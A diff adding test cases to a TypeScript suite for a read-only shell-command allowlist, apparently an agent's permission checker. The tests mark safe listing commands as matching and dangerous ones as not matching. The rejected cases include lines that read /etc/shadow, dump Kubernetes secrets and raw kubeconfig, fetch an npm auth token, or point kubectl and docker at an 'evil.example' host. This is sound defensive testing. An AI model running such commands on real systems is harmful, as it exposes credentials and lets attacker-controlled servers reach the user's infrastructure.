@@ -138,6 +138,32 @@ describe('read-only catalogue: matching', () => {
     ["rg 'fn main' src tests", 'rg'],
     ['diff -ru old/ new/', 'diff'],
     ['sort -u a.txt | uniq -c | head -n 3', 'sort, uniq, head'],
+    ["sed -n '1,40p' src/index.ts", 'sed -n p'],
+    ["sed -n '/^export/p' a.ts b.ts", 'sed -n p'],
+    ['kubectl get pods -n dev', 'kubectl get'],
+    ['kubectl describe deploy web -o yaml', 'kubectl get'],
+    ["kubectl get pods -o 'jsonpath={.items[*].metadata.name}'", 'kubectl get'],
+    ['kubectl auth can-i list pods', 'kubectl get'],
+    ['kubectl config view --minify', 'kubectl config view'],
+    ['docker compose logs --tail 20 web', 'docker compose ps'],
+    ['docker inspect app', 'docker ps'],
+    ['git tag', 'git tag'],
+    ["git tag -ln 'v1.*'", 'git tag -l'],
+    ['git config --get user.email', 'git config --get'],
+    ['git config -l --show-origin', 'git config --get'],
+    ["git grep -n 'TODO' -- src", 'git grep'],
+    ['git describe --tags --always', 'git describe'],
+    ['npm outdated', 'npm outdated'],
+    ['npm --version', 'npm --version'],
+    ['pip list --format=json', 'pip list'],
+    ['pip3 show -f zod', 'pip3 list'],
+    ['python -V', 'python --version'],
+    ['go env GOPATH GOMODCACHE', 'go env'],
+    ['go list -m all', 'go list'],
+    ['sha256sum dist/app.tgz | cut -d" " -f1', 'sha256sum, cut'],
+    ['column -t -s, data.csv', 'column'],
+    ['xxd -l64 data.bin | head', 'xxd, head'],
+    ['lscpu', 'lscpu'],
   ])('%s matches %s', (source, name) => {
     expect(rule(source)).toBe(name);
   });
@@ -193,6 +219,65 @@ describe('read-only catalogue: matching', () => {
     'rg secret /',
     'rg secret',
     'diff -r ~/a ~/b',
+    // A bare interpreter runs its stdin: never the --version rule.
+    "python3 - <<'EOF'\nimport os\nEOF",
+    'python3 < script.py',
+    "node <<< 'process.exit(1)'",
+    'python3',
+    'chrt 5',
+    "sed '1,40p' a.txt",
+    "sed -n '1w out.txt' a.txt",
+    "sed -n 's/a/b/w out.txt' a.txt",
+    "sed -n '1e id' a.txt",
+    "sed -n '1r /etc/shadow' a.txt",
+    "sed -i -n '1p' a.txt",
+    "sed -n -i.bak '1p' a.txt",
+    'sed -n -f script.sed a.txt',
+    'kubectl delete pod web-1',
+    'kubectl get pods --kubeconfig=./evil',
+    'kubectl --server https://evil.example get pods',
+    'kubectl get pods -s https://evil.example',
+    'kubectl get secrets -o yaml',
+    'kubectl get pods,secret/db',
+    'kubectl get pods -o go-template-file=/etc/shadow',
+    'kubectl get pods --output=custom-columns-file=/etc/shadow',
+    'kubectl get -f https://evil.example/x.yaml',
+    'kubectl config view --raw',
+    'kubectl config view --flatten',
+    'kubectl cluster-info dump --output-directory=/tmp/x',
+    'kubectl exec web -- id',
+    'docker -H ssh://me@evil.example ps',
+    'docker --config ./evil ps',
+    'docker compose up -d',
+    'docker run alpine',
+    'git tag v1.0',
+    'git tag -a v1 -m x',
+    'git tag -d v1',
+    'git config user.name Ada',
+    'git config --get user.name --file=/etc/x',
+    'git config --unset user.name',
+    'git grep -O./pager TODO',
+    'git grep --open-files-in-pager=vim TODO',
+    'git grep --no-index key',
+    'git -c core.pager=./x grep TODO',
+    'npm config get //registry.npmjs.org/:_authToken',
+    'npm config set x y',
+    'npm outdated --prefix /',
+    'pip install left-pad',
+    'pip list --python ./evil',
+    'pip list --log out.txt',
+    'pip freeze -r requirements.txt',
+    'go env -w GOFLAGS=-mod=mod',
+    'go env -u GOPROXY',
+    'go list -export ./...',
+    'go list -toolexec ./x ./...',
+    'go run .',
+    'md5sum -c sums.txt',
+    'sha256sum --check sums.txt',
+    'xxd -r dump.hex out.bin',
+    'xxd --revert dump.hex',
+    'xxd in.bin out.txt',
+    'xxd -l 64 in.bin out.txt',
   ])('%s does not match', (source) => {
     expect(rule(source)).toBeNull();
   });
@@ -203,5 +288,27 @@ describe('read-only catalogue: matching', () => {
     expect(rule('cat /public/a.txt /secret/b.txt', pathOk)).toBeNull();
     expect(rule('cat < /secret/b.txt', pathOk)).toBeNull();
     expect(rule('grep --file=/secret/p x', pathOk)).toBeNull();
+    // A sed script is not a path; its input files are.
+    expect(rule("sed -n '/secret/p' /public/a.txt", pathOk)).toBe('sed -n p');
+    expect(rule("sed -n '1p' /public/a.txt /secret/b.txt", pathOk)).toBeNull();
+    expect(rule('kubectl get pods -n /secret', pathOk)).toBeNull();
+  });
+
+  it('a user rule may require a flag', () => {
+    const extra: ReadOnlyRuleConfig[] = [
+      {
+        name: 'deno --version',
+        binary: 'deno',
+        allowed_flags: ['--version', '-V'],
+        required_flags: ['--version', '-V'],
+        max_args: 0,
+        examples: { match: ['deno -V'], no_match: ['deno < x.ts'] },
+      },
+    ];
+    const withExtra = loadCatalogue(extra);
+    expect(matchReadOnly(parseShell('deno --version'), withExtra, everyPath)?.rule).toBe(
+      'deno --version',
+    );
+    expect(matchReadOnly(parseShell('deno'), withExtra, everyPath)).toBeNull();
   });
 });
